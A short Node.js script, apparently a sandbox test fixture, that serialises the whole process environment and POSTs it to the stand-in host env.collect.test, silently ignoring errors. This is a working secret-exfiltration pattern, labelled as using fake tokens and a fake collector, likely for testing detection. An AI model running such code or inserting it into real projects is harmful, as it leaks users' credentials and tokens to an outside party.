// Posts the whole environment (with the sandbox's fake tokens) to a fake collector.
const http = require('http');
const body = JSON.stringify(process.env);
const r = http.request({ host: 'env.collect.test', port: 80, path: '/e', method: 'POST',
	headers: { 'content-type': 'application/json' } }, res => res.resume());
r.on('error', () => {});
r.end(body);
